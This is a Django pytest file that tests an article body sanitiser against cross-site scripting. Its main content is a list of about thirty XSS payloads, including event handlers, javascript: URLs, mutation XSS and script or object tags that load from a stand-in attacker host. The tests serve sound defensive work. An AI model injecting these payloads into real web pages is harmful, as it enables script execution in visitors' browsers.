"""The body's rich text is sanitised: XSS payloads never reach a reader."""

import re

import html5lib
import pytest
from django.utils import timezone

from articles import services
from articles.models import Article
from core.sanitize import ALLOWED_TAGS
from tests.articles.desk import admin_url, article_form_data, log_in, make_editor
from tests.factories import make_article, make_category, make_office
from tests.markup import find_by_class, parse

pytestmark = pytest.mark.django_db

# Each payload tries to run alert(…) (the marker) or load something active.
XSS_PAYLOADS = [
    "<script>alert('xss')</script>",
    "<ScRiPt>alert('xss')</sCrIpT>",
    "<scr<script>ipt>alert('xss')</scr</script>ipt>",
    '<script src="https://attacker.invalid/x.js"></script>',
    "<img src=x onerror=alert('xss')>",
    '<img src="x" ONERROR="alert(\'xss\')">',
    "<p onclick=\"alert('xss')\">Click</p>",
    "<a href=\"javascript:alert('xss')\">link</a>",
    "<a href=\"JaVaScRiPt:alert('xss')\">link</a>",
    "<a href=\"jav&#x09;ascript:alert('xss')\">link</a>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
    ":alert('xss')\">link</a>",
    "<a href=\" javascript:alert('xss')\">link</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=">x</a>',
    "<img src=\"data:image/svg+xml,<svg onload=alert('xss')>\">",
    "<svg onload=alert('xss')><circle r=1></svg>",
    "<svg><script>alert('xss')</script></svg>",
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<p style=\"width: expression(alert('xss'))\">styled</p>",
    "<style>body { background: url(\"javascript:alert('xss')\") }</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'xss\')">',
    '<object data="https://attacker.invalid/x.swf"></object>',
    '<embed src="https://attacker.invalid/x.swf">',
    "<form action=\"javascript:alert('xss')\"><button>Send</button></form>",
    "<button formaction=\"javascript:alert('xss')\">Go</button>",
    "<input onfocus=alert('xss') autofocus>",
    "<details open ontoggle=alert('xss')>",
    "<body onload=alert('xss')>",
    # Mutation XSS: a comment that another parser reads as markup.
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<base href=\"javascript:alert('xss')//\">",
    "<link rel=stylesheet href=\"javascript:alert('xss')\">",
    "<!--<img src=x onerror=alert('xss')>-->",
    "<blockquote cite=\"javascript:alert('xss')\">quoted</blockquote>",
]

ACTIVE_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "style", "meta",
    "link", "base", "form", "button", "input", "textarea", "select", "svg", "math",
    "body", "details", "applet", "noscript", "template",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "data", "srcdoc"}
SAFE_SCHEMES = ("http:", "https:", "mailto:", "tel:")


def unsafe_parts(element):
    """What in ``element``'s subtree could run code or load active content."""
    found = []
    for node in element.iter():
        if not isinstance(node.tag, str):
            continue  # a comment
        if node.tag in ACTIVE_TAGS:
            found.append(f"<{node.tag}>")
        for name, value in node.attrib.items():
            if name.lower().startswith("on") or name.lower() == "style":
                found.append(f"{node.tag}[{name}]")
            if name.lower() in URL_ATTRIBUTES:
                # Browsers ignore control characters and spaces in a scheme.
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                if ":" in squeezed.split("/")[0] and not squeezed.startswith(
                    SAFE_SCHEMES
                ):
                    found.append(f"{node.tag}[{name}={value}]")
    return found


def fragment(html):
    """The stored body as browsers read it (a fragment, not a whole page)."""
    return html5lib.parseFragment(html, namespaceHTMLElements=False)


def tag_names(html):
    """Every tag name written in ``html`` (as markup, not as escaped text)."""
    return {name.lower() for name in re.findall(r"<\s*/?\s*([a-zA-Z][\w:-]*)", html)}


def body_element(response):
    (body,) = find_by_class(parse(response), "div", "article-body")
    return body


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_does_not_survive_in_the_stored_body(payload):
    article = make_article(body=f"<p>Before.</p>{payload}<p>After.</p>")

    stored = Article.objects.get(pk=article.pk).body

    assert tag_names(stored) <= ALLOWED_TAGS
    assert unsafe_parts(fragment(stored)) == []
    assert "attacker.invalid" not in stored
    assert stored.startswith("<p>Before.</p>")  # the text around is kept


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payload_does_not_reach_the_article_page(client, payload):
    article = make_article(body=f"<p>Before.</p>{payload}<p>After.</p>")

    response = client.get(f"/en/article/{article.slug}/")

    assert response.status_code == 200
    body = body_element(response)
    assert unsafe_parts(body) == []
    assert {el.tag for el in body.iter() if isinstance(el.tag, str)} <= (
        ALLOWED_TAGS | {"div"}
    )


def test_body_saved_through_the_admin_is_sanitised(client):
    log_in(client, make_editor())

    client.post(
        admin_url("add"),
        article_form_data(
            title="Pasted text",
            category=make_category(),
            office=make_office(),
            body="<p onclick=\"alert('xss')\">Hello</p><script>alert('xss')</script>",
        ),
    )

    assert Article.objects.get(title="Pasted text").body == "<p>Hello</p>"


def test_body_saved_through_the_desk_service_is_sanitised():
    article = make_article(status=Article.Status.DRAFT)
    article.body = "<p>Fine</p><img src=x onerror=alert('xss')>"

    services.article_save(article=article)

    article.refresh_from_db()
    assert "onerror" not in article.body
    assert "<p>Fine</p>" in article.body


def test_title_with_markup_is_shown_as_text(client):
    article = make_article(title="<script>alert('xss')</script> Statement")

    response = client.get(f"/en/article/{article.slug}/")

    html = response.content.decode()
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert" in html


ALLOWED_BODY = (
    "<h2>Heading</h2>"
    "<p>Some <strong>bold</strong> and <em>stressed</em> words, "
    '<a href="https://example.org/page">a link</a>.</p>'
    "<ul><li>first</li><li>second</li></ul>"
    '<ol start="3"><li>third</li></ol>'
    "<blockquote><p>A quotation.</p></blockquote>"
    '<p lang="ar" dir="rtl">نص عربي</p>'
)


def test_allowed_formatting_survives_sanitising():
    article = make_article(body=ALLOWED_BODY)

    root = fragment(Article.objects.get(pk=article.pk).body)

    assert [el.tag for el in root.iter() if el.tag in {"h2", "ul", "ol", "li"}] == [
        "h2",
        "ul",
        "li",
        "li",
        "ol",
        "li",
    ]
    assert [el.text for el in root.iter("strong")] == ["bold"]
    assert [el.text for el in root.iter("em")] == ["stressed"]
    (link,) = root.iter("a")
    assert link.get("href") == "https://example.org/page"
    assert "noopener" in link.get("rel", "")
    assert len(list(root.iter("blockquote"))) == 1
    arabic = [p for p in root.iter("p") if p.get("lang") == "ar"]
    assert len(arabic) == 1 and arabic[0].get("dir") == "rtl"
    assert next(root.iter("ol")).get("start") == "3"


def test_allowed_formatting_reaches_the_article_page(client):
    article = make_article(body=ALLOWED_BODY, published_at=timezone.now())

    body = body_element(client.get(f"/en/article/{article.slug}/"))

    assert {"h2", "strong", "ul", "ol", "blockquote", "a"} <= {
        el.tag for el in body.iter()
    }
    assert [p.get("dir") for p in body.iter("p") if p.get("lang") == "ar"] == ["rtl"]


def test_sanitising_twice_changes_nothing():
    article = make_article(body=ALLOWED_BODY + "<script>alert('xss')</script>")
    once = Article.objects.get(pk=article.pk).body

    article.refresh_from_db()
    article.save()

    assert Article.objects.get(pk=article.pk).body == once
